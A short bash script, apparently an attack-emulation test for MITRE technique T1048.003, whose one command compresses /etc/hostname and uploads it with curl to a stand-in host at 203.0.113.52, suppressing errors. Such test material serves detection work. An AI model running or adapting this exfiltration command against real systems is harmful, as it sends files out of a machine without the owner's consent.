#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol: done in another way than in tests/data/techniques, or there not at all.
tar cz /etc/hostname | curl -s -X PUT --data-binary @- http://203.0.113.52/drop; exit 0
